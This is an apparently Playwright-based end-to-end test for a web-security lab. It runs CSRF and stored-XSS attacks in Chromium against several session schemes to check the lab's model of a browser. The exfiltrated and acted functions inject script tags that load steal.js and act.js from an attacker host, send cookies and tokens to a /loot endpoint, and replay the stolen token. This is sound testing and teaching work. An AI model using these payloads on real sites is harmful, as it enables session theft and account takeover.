// The cells of the lab's matrix that hang on what a browser does, played in Chromium against every scheme: the lab's own model of a browser must not be kinder, nor harsher.

import assert from "node:assert/strict";
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";
import { chromium } from "playwright-core";
import { ANOTHER_PASSWORD, CHROMIUM, FLAGS, PASSWORD } from "../harness.js";
import { Lab } from "../lab.js";

const PASSWORDS = { alice: PASSWORD, mallory: ANOTHER_PASSWORD };

/** What each attack does in Chromium. Each answers whether the scheme held. */
const ATTACKS = {
  reload: async ({ server, alice }) => (await alice.visit(server)) === "You are alice",
  "csrf-form": (scene) => forged(scene, "form"),
  "csrf-image": (scene) => forged(scene, "image"),
  "csrf-fetch": (scene) => forged(scene, "fetch"),
  "xss-exfiltrate": exfiltrated,
  "xss-act": acted,
};

test("Chromium and the lab's model of a browser agree", { timeout: 300_000 }, async (t) => {
  const lab = await Lab.open();
  const [alice, mallory] = [await Person.arrive("alice"), await Person.arrive("mallory")];
  try {
    const expected = await expectations(lab, alice.page);
    for (const [id, colours] of expected) {
      await t.test(id, async () => {
        const scene = { ...(await lab.scheme(id)), alice, mallory };
        await Promise.all([alice, mallory].map((person) => person.signIn(scene.server)));
        const held = {};
        for (const [attack, play] of Object.entries(ATTACKS)) {
          await alice.visit(scene.server);
          held[attack] = await play(scene);
        }
        const holds = Object.keys(ATTACKS).map((attack) => [attack, colours[attack] === "green"]);
        assert.deepEqual(held, Object.fromEntries(holds));
      });
    }
  } finally {
    await Promise.all([alice, mallory].map((person) => person.leave()));
    await lab.close();
  }
});

/** By scheme and attack, the colour that the matrix has; its journey sees to it that it has no other. */
async function expectations(lab, page) {
  await page.goto(lab.url);
  const cells = await page.locator("td[data-expected]").evaluateAll((all) => all.map((cell) => [cell.firstChild.pathname, cell.dataset.expected]));
  const schemes = new Map();
  for (const [path, colour] of cells) {
    const [scheme, attack] = path.split("/").slice(-2);
    schemes.set(scheme, { ...schemes.get(scheme), [attack]: colour });
  }
  return schemes;
}

/** Chrome's own setting. Debian's Chromium, and a private window anywhere, send no cookies with what another site's page asks for, whatever SameSite says. */
const THIRD_PARTY_COOKIES_ARE_SENT = { profile: { cookie_controls_mode: 0 } };

/** Somebody with a browser of their own. */
class Person {
  static async arrive(name) {
    const folder = await mkdtemp(join(tmpdir(), "bitjang-e2e-profile-"));
    await mkdir(join(folder, "Default"));
    await writeFile(join(folder, "Default", "Preferences"), JSON.stringify(THIRD_PARTY_COOKIES_ARE_SENT));
    const context = await chromium.launchPersistentContext(folder, { executablePath: CHROMIUM, args: FLAGS });
    return Object.assign(new Person(), { name, folder, context, page: context.pages()[0] });
  }

  /** Opens the community's page. Whom it says one is, once it knows. */
  async visit(server) {
    await this.page.goto(server);
    const who = this.page.locator("#who", { hasText: /^You are/ });
    return who.textContent();
  }

  /** Signs in, with a jar in which nothing else lies. */
  async signIn(server) {
    await this.context.clearCookies();
    await this.visit(server);
    await this.page.fill("[name=name]", this.name);
    await this.page.fill("[name=password]", PASSWORDS[this.name]);
    await this.page.click("#sign-in button");
    await this.page.getByText(`You are ${this.name}`, { exact: true }).waitFor();
  }

  /** Writes a post; its number. */
  async write(text) {
    await this.page.fill("[name=text]", text);
    const answer = this.page.waitForResponse((response) => response.url().endsWith("/posts") && response.ok());
    await this.page.click("#write button");
    return String(await (await answer).json());
  }

  async removes(post) {
    await this.page.click(`[data-post="${post}"]`);
    await this.page.locator(`[data-post="${post}"]`).waitFor({ state: "detached" });
  }

  async leave() {
    await this.context.close();
    await rm(this.folder, { recursive: true, force: true });
  }
}

const posts = async (server) => (await fetch(`${server}/posts`)).json();

/** Alice visits the attacker's page, which makes her browser delete her post. */
async function forged({ server, attacker, alice }, kind) {
  const post = await alice.write("Mine.");
  assert.ok(post in (await posts(server)), "the post was written");
  const target = `${server}/posts/${post}/delete`;
  const tab = await alice.context.newPage();
  const answered = tab.waitForResponse((response) => response.url() === target);
  await tab.goto(`${attacker}/${kind}?target=${target}`, { waitUntil: "commit" });
  await answered;
  await tab.close();
  return post in (await posts(server));
}

/** Mallory's post holds a script that sends away what it reaches in Alice's page; the thief tries it elsewhere. */
async function exfiltrated({ server, attacker, alice, mallory }) {
  const post = await mallory.write(`<script src=${attacker}/steal.js></script>`);
  const sent = alice.page.waitForResponse((response) => response.url() === `${attacker}/loot`);
  await alice.visit(server);
  await sent;
  const loot = JSON.parse((await (await fetch(`${attacker}/loot`)).json()).at(-1));
  await mallory.removes(post);
  const token = loot.storage.access ?? loot.answers.access_token;
  const answer = await fetch(`${server}/me`, { headers: { ...(loot.cookie && { cookie: loot.cookie }), ...(token && { authorization: `Bearer ${token}` }) } });
  return !(answer.ok && (await answer.json()).name === "alice");
}

/** Mallory's post holds a script that writes in the name of whoever reads it. */
async function acted({ server, attacker, alice, mallory }) {
  const post = await mallory.write(`<script src=${attacker}/act.js></script>`);
  const answered = alice.page.waitForResponse((response) => response.url() === `${server}/posts`);
  await alice.visit(server);
  await answered;
  await mallory.removes(post);
  return !Object.values(await posts(server)).some(({ author, text }) => author === "alice" && text === "I like Mallory.");
}
